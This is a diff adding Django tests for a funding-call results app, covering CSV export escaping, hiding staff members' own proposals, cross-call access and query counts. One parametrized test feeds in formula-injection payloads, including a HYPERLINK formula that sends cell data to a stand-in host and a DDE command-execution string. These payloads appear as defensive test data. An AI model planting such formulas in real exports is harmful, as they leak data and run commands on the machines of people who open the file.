@@ -10,9 +10,9 @@ import pytest
 from auditlog.models import LogEntry
 from django.urls import reverse
 
-from coprod.models import Notification
+from coprod.models import Notification, Person
 from funding.enums import CallStatus, ConflictCategory, ConflictDecision, PanelRole
-from funding.models import ConflictDeclaration, Decision, PanelMember
+from funding.models import ConflictDeclaration, Decision, PanelMember, Proposal
 from funding.permissions import sync_proposal_access
 from tests.factories.funding import (
     PanelFactory,
@@ -70,6 +70,50 @@ def test_csv_export_has_the_same_numbers_and_is_audited(client):
     assert entry.additional_data["context"] == "results export"
 
 
+@pytest.mark.parametrize(
+    ("title", "name"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"Open")', "@SUM(1+1)"),
+        ("+44 cmd|' /C calc'!A0", "-2+3"),
+        (" \t=1+1", "\r=1+1"),
+    ],
+    ids=["equals-and-at", "plus-and-minus", "after-spaces"],
+)
+def test_csv_export_quotes_titles_and_names_a_spreadsheet_would_run(client, title, name):
+    example = build_example()
+    proposal = example.proposals["B"]
+    Proposal.objects.filter(pk=proposal.pk).update(title=title)
+    Person.objects.filter(pk=proposal.applicant_id).update(chosen_name=name)
+    client.force_login(make_funding_staff())
+
+    response = client.get(reverse("funding_results:csv", kwargs={"call_id": example.call.pk}))
+
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert (row["proposal"], row["applicant"]) == ("'" + title, "'" + name)
+
+
+def test_staff_do_not_see_the_results_of_their_own_proposal(client):
+    example = build_example()
+    staff = make_funding_staff()
+    Proposal.objects.filter(pk=example.proposals["B"].pk).update(
+        applicant=staff.person, title="Staff member's own proposal"
+    )
+    client.force_login(staff)
+
+    page = client.get(reverse("funding_results:call", kwargs={"call_id": example.call.pk}))
+    export = client.get(reverse("funding_results:csv", kwargs={"call_id": example.call.pk}))
+
+    text = page.content.decode()
+    assert "own proposal" not in text
+    assert ">2. A<" in text
+    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+    assert [(row["rank"], row["proposal"], row["running_total"]) for row in rows] == [
+        ("2", "A", "80000.00"),
+        ("3", "D", "90000.00"),
+        ("", "C", ""),
+    ]
+
+
 def test_decision_form_shows_errors_and_saves_nothing(client):
     example = build_example()
     client.force_login(make_funding_staff())
@@ -106,12 +150,35 @@ def test_decision_form_records_the_decision(client):
     )
 
 
+def test_a_proposal_of_another_call_is_not_found_under_this_call(client):
+    example = build_example()
+    other = build_example()
+    Proposal.objects.filter(pk=other.proposals["A"].pk).update(title="Another call's proposal")
+    client.force_login(make_funding_staff())
+    url = reverse(
+        "funding_results:decision",
+        kwargs={"call_id": example.call.pk, "proposal_id": other.proposals["A"].pk},
+    )
+
+    page = client.get(url)
+    posted = client.post(url, {"outcome": "no", "rationale": "Weak method."})
+
+    assert (page.status_code, posted.status_code) == (404, 404)
+    assert "Another call&#x27;s proposal" not in page.content.decode()
+    assert Decision.objects.count() == 0
+
+
 def test_decide_button_decides_the_call_once(client):
     example = build_example()
     staff = make_funding_staff()
     for name in "ABD":
+        # B is flagged for the LEE difference: its decision says how the LEE view was weighed.
         Decision.objects.create(
-            proposal=example.proposals[name], outcome="no", rationale="r", decided_by=staff
+            proposal=example.proposals[name],
+            outcome="no",
+            rationale="r",
+            lee_view="Weighed." if name == "B" else "",
+            decided_by=staff,
         )
     client.force_login(staff)
     url = reverse("funding_results:decide", kwargs={"call_id": example.call.pk})
@@ -172,6 +239,34 @@ def test_staff_results_page_queries_do_not_grow_with_proposals_and_scores(client
     )
 
 
+def test_csv_export_queries_do_not_grow_with_proposals_and_scores(client):
+    panel, _lee, add_proposal = _call_with_scores()
+    client.force_login(make_funding_staff())
+
+    assert_queries_do_not_grow(
+        client,
+        reverse("funding_results:csv", kwargs={"call_id": panel.call_id}),
+        add_proposal,
+        rows=(1, 30),
+    )
+
+
+def test_decision_page_queries_do_not_grow_with_proposals_and_scores(client):
+    panel, _lee, add_proposal = _call_with_scores()
+    add_proposal()
+    first = panel.call.proposals.get()
+    client.force_login(make_funding_staff())
+
+    assert_queries_do_not_grow(
+        client,
+        reverse(
+            "funding_results:decision", kwargs={"call_id": panel.call_id, "proposal_id": first.pk}
+        ),
+        add_proposal,
+        rows=(1, 30),
+    )
+
+
 def test_chair_results_page_queries_do_not_grow_with_proposals_and_scores(client):
     panel, chair, add_proposal = _call_with_scores()
     client.force_login(chair.person.user)
@@ -226,7 +321,12 @@ def test_once_the_call_is_decided_decisions_are_no_longer_offered(client):
     example = build_example()
     staff = make_funding_staff()
     for name in "ABD":
-        Decision.objects.create(proposal=example.proposals[name], outcome="no", rationale="r")
+        Decision.objects.create(
+            proposal=example.proposals[name],
+            outcome="no",
+            rationale="r",
+            lee_view="Weighed." if name == "B" else "",
+        )
     client.force_login(staff)
     client.post(reverse("funding_results:decide", kwargs={"call_id": example.call.pk}))
 
